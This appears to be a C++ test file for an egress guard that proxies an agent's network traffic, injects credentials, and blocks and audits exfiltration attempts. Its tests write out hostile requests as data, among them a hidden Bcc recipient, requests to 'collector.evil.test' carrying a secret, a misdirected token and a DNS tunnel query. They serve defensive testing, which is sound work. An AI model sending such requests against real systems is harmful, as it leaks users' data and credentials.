// The egress guard in-process, over real sockets on 127.0.0.1: the proxy (CONNECT, absolute form),
// DNS over UDP, correlation, the broker, monitor mode and the circuit breaker. (TLS interception
// and the transparent listeners are covered end to end in tests/e2e/egress.test.mjs.)
#include "warden/egress/guard.h"

#include <arpa/inet.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <thread>

#include <gtest/gtest.h>

#include "warden/audit/audit_log.h"
#include "warden/egress/dns.h"
#include "warden/policy/matchers.h"

namespace warden::egress {
namespace {

namespace fs = std::filesystem;

int listen_on_loopback(int type, uint16_t& port) {
  int fd = ::socket(AF_INET, type | SOCK_CLOEXEC, 0);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ::bind(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa);
  if (type == SOCK_STREAM) ::listen(fd, 16);
  socklen_t len = sizeof sa;
  ::getsockname(fd, reinterpret_cast<sockaddr*>(&sa), &len);
  port = ntohs(sa.sin_port);
  return fd;
}

int connect_to(uint16_t port) {
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(port);
  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  EXPECT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa), 0);
  return fd;
}

// Sends `request` and reads until the peer closes or a full response with its body arrived.
std::string http_exchange(uint16_t port, const std::string& request) {
  int fd = connect_to(port);
  EXPECT_EQ(::write(fd, request.data(), request.size()), static_cast<ssize_t>(request.size()));
  std::string out;
  char buf[4096];
  for (;;) {
    pollfd p{fd, POLLIN, 0};
    if (::poll(&p, 1, 5000) <= 0) break;
    ssize_t n = ::read(fd, buf, sizeof buf);
    if (n <= 0) break;
    out.append(buf, static_cast<size_t>(n));
    auto head_end = out.find("\r\n\r\n");
    auto cl = out.find("Content-Length: ");
    if (head_end != std::string::npos && cl != std::string::npos &&
        out.size() >= head_end + 4 + std::stoul(out.substr(cl + 16)))
      break;
  }
  ::close(fd);
  return out;
}

// A plain HTTP upstream that records each request and answers 200.
struct Upstream {
  uint16_t port = 0;
  int fd = -1;
  std::atomic<int> requests{0};
  std::string last;
  std::thread t;
  Upstream() {
    fd = listen_on_loopback(SOCK_STREAM, port);
    t = std::thread([this] {
      for (;;) {
        int c = ::accept(fd, nullptr, nullptr);
        if (c < 0) return;
        std::string req;
        char buf[8192];
        for (;;) {
          pollfd p{c, POLLIN, 0};
          if (::poll(&p, 1, 2000) <= 0) break;
          ssize_t n = ::read(c, buf, sizeof buf);
          if (n <= 0) break;
          req.append(buf, static_cast<size_t>(n));
          auto he = req.find("\r\n\r\n");
          auto cl = req.find("Content-Length: ");
          if (he != std::string::npos && (cl == std::string::npos || req.size() >= he + 4 + std::stoul(req.substr(cl + 16))))
            break;
        }
        last = req;
        ++requests;
        std::string res = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok";
        (void)!::write(c, res.data(), res.size());
        ::close(c);
      }
    });
  }
  ~Upstream() {
    ::shutdown(fd, SHUT_RDWR);
    ::close(fd);
    t.join();
  }
};

struct GuardFixture : ::testing::Test {
  fs::path dir = fs::temp_directory_path() / ("warden-guard-" + std::to_string(::getpid()));
  util::ManualClock clock;
  std::unique_ptr<audit::AuditLog> log;
  IntentBoard board;
  Upstream upstream;
  uint16_t proxy_port = 0, dns_port = 0;
  std::unique_ptr<Guard> guard;

  void start(GuardConfig gc) {
    fs::create_directories(dir);
    log = std::move(*audit::AuditLog::open((dir / "audit.jsonl").string(), audit::FsyncMode::never, clock));
    guard = std::make_unique<Guard>(std::move(gc), nullptr, board, log.get(), nullptr, clock);
    std::vector<sandbox::Listener> ls;
    ls.push_back({"proxy", util::UniqueFd(listen_on_loopback(SOCK_STREAM, proxy_port))});
    ls.push_back({"dns-udp", util::UniqueFd(listen_on_loopback(SOCK_DGRAM, dns_port))});
    guard->start(std::move(ls));
  }
  GuardConfig config(bool correlate = true) {
    GuardConfig gc;
    gc.server = "mail";
    policy::EgressRule r;
    std::string why;
    policy::parse_host_pattern("api.mail.test", r.host, why);
    r.port = 80;
    r.inspect = true;
    if (correlate) r.correlate = {"email"};
    r.resolve = "127.0.0.1:" + std::to_string(upstream.port);
    r.inject = policy::EgressInject{"X-Token", "TOKEN"};
    gc.rules = {r};
    gc.secrets["TOKEN"] = "real-secret-value";
    gc.placeholders["TOKEN"] = "placeholder-123";
    return gc;
  }
  std::string audit_text() {
    (void)log->flush();
    std::ifstream in(dir / "audit.jsonl");
    return std::string(std::istreambuf_iterator<char>(in), {});
  }
  void TearDown() override {
    if (guard) guard->stop();
    fs::remove_all(dir);
  }
};

std::string post(const std::string& body) {
  return "POST http://api.mail.test/send HTTP/1.1\r\nHost: api.mail.test\r\nContent-Type: application/json\r\n"
         "X-Token: placeholder-123\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

TEST_F(GuardFixture, AskedForRecipientsPassWithTheRealCredentialInjected) {
  start(config());
  board.begin_call("1", "send", R"({"to":"alice@example.com"})");
  std::string res = http_exchange(proxy_port, post(R"({"To":"alice@example.com"})"));
  EXPECT_NE(res.find("200 OK"), std::string::npos) << res;
  EXPECT_EQ(upstream.requests, 1);
  EXPECT_NE(upstream.last.find("X-Token: real-secret-value"), std::string::npos) << upstream.last;
  EXPECT_EQ(upstream.last.find("placeholder-123"), std::string::npos);
  EXPECT_EQ(audit_text().find("real-secret-value"), std::string::npos);
  EXPECT_FALSE(guard->quarantine());
}

TEST_F(GuardFixture, AnUnrequestedBccIsBlockedAuditedAndTripsTheBreaker) {
  start(config());
  board.begin_call("1", "send", R"({"to":"alice@example.com"})");
  std::string res = http_exchange(proxy_port, post(R"({"To":"alice@example.com","Bcc":"phan@giftshop.club"})"));
  EXPECT_NE(res.find("403"), std::string::npos) << res;
  EXPECT_NE(res.find("phan@giftshop.club was not asked for"), std::string::npos) << res;
  EXPECT_EQ(upstream.requests, 0);
  auto q = guard->quarantine();
  ASSERT_TRUE(q);
  EXPECT_EQ(q->detector, "egress.unrequested_recipient");
  EXPECT_NE(q->evidence.find("body.Bcc=phan@giftshop.club"), std::string::npos);
  EXPECT_GT(q->audit_seq, 0u);
  EXPECT_NE(audit_text().find("\"decision\":\"block\""), std::string::npos);
  // Quarantined: even a clean request is refused now.
  std::string after = http_exchange(proxy_port, post(R"({"To":"alice@example.com"})"));
  EXPECT_NE(after.find("quarantined"), std::string::npos) << after;
  EXPECT_EQ(upstream.requests, 0);
}

TEST_F(GuardFixture, NoCallInFlightMeansEveryAddressIsAFinding) {
  start(config());
  std::string res = http_exchange(proxy_port, post(R"({"To":"alice@example.com"})"));
  EXPECT_NE(res.find("403"), std::string::npos) << res;
}

TEST_F(GuardFixture, MonitorModeRecordsButForwards) {
  GuardConfig gc = config();
  gc.monitor = true;
  start(gc);
  board.begin_call("1", "send", R"({"to":"alice@example.com"})");
  std::string res = http_exchange(proxy_port, post(R"({"To":"alice@example.com","Bcc":"spy@evil.test"})"));
  EXPECT_NE(res.find("200 OK"), std::string::npos) << res;
  EXPECT_EQ(upstream.requests, 1);
  EXPECT_NE(audit_text().find("egress.unrequested_recipient"), std::string::npos);
  EXPECT_FALSE(guard->quarantine());
}

TEST_F(GuardFixture, UnlistedHostsAreRefusedOverConnectAndAbsoluteForm) {
  start(config());
  std::string c = http_exchange(proxy_port, "CONNECT collector.evil.test:443 HTTP/1.1\r\nHost: collector.evil.test:443\r\n\r\n");
  EXPECT_NE(c.find("403"), std::string::npos) << c;
  std::string a = http_exchange(proxy_port, "GET http://collector.evil.test/x?d=secret HTTP/1.1\r\nHost: collector.evil.test\r\n\r\n");
  EXPECT_NE(a.find("403"), std::string::npos) << a;
  std::string bad = http_exchange(proxy_port, "GET /relative HTTP/1.1\r\nHost: x\r\n\r\n");
  EXPECT_NE(bad.find("400"), std::string::npos) << bad;
  EXPECT_EQ(upstream.requests, 0);
  std::string log_text = audit_text();
  EXPECT_NE(log_text.find("\"host\":\"collector.evil.test\""), std::string::npos);
  EXPECT_NE(log_text.find("egress.host_denied"), std::string::npos);
}

TEST_F(GuardFixture, TheCredentialPlaceholderGoingElsewhereIsCritical) {
  GuardConfig gc = config(false);
  policy::EgressRule other;
  std::string why;
  policy::parse_host_pattern("hooks.other.test", other.host, why);
  other.port = 80;
  other.inspect = true;
  other.resolve = "127.0.0.1:" + std::to_string(upstream.port);
  gc.rules.push_back(other);
  start(gc);
  const std::string body = R"({"k":"placeholder-123"})";
  std::string res = http_exchange(proxy_port, "POST http://hooks.other.test/c HTTP/1.1\r\nHost: hooks.other.test\r\n"
                                              "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
  EXPECT_NE(res.find("403"), std::string::npos) << res;
  EXPECT_EQ(upstream.requests, 0);
  auto q = guard->quarantine();
  ASSERT_TRUE(q);
  EXPECT_EQ(q->detector, "egress.secret_misdirected");
}

TEST_F(GuardFixture, DnsAnswersListedNamesAndRefusesTheRest) {
  start(config());
  auto ask = [&](const std::string& name) {
    std::string q{0x00, 0x07, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
    size_t start = 0;
    while (start <= name.size()) {
      size_t dot = name.find('.', start);
      if (dot == std::string::npos) dot = name.size();
      q += static_cast<char>(dot - start);
      q += name.substr(start, dot - start);
      start = dot + 1;
    }
    q += std::string{0, 0, 1, 0, 1};
    int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_port = htons(dns_port);
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ::sendto(fd, q.data(), q.size(), 0, reinterpret_cast<sockaddr*>(&sa), sizeof sa);
    char buf[512];
    pollfd p{fd, POLLIN, 0};
    std::string r;
    if (::poll(&p, 1, 3000) > 0) {
      ssize_t n = ::recv(fd, buf, sizeof buf, 0);
      if (n > 0) r.assign(buf, static_cast<size_t>(n));
    }
    ::close(fd);
    return r;
  };
  std::string ok = ask("api.mail.test");
  ASSERT_GE(ok.size(), 16u);
  EXPECT_EQ(static_cast<uint8_t>(ok[3]) & 0x0f, 0);
  EXPECT_EQ(ok.substr(ok.size() - 4, 2), std::string("\x7f\x01", 2));  // 127.1.x.y
  std::string refused = ask("aGVsbG8.tunnel.evil.test");
  ASSERT_GE(refused.size(), 12u);
  EXPECT_EQ(static_cast<uint8_t>(refused[3]) & 0x0f, k_rcode_nxdomain);
  std::string log_text = audit_text();
  EXPECT_NE(log_text.find("\"host\":\"agvsbg8.tunnel.evil.test\""), std::string::npos) << log_text;
  EXPECT_NE(log_text.find("egress.dns_denied"), std::string::npos);
}

}  // namespace
}  // namespace warden::egress
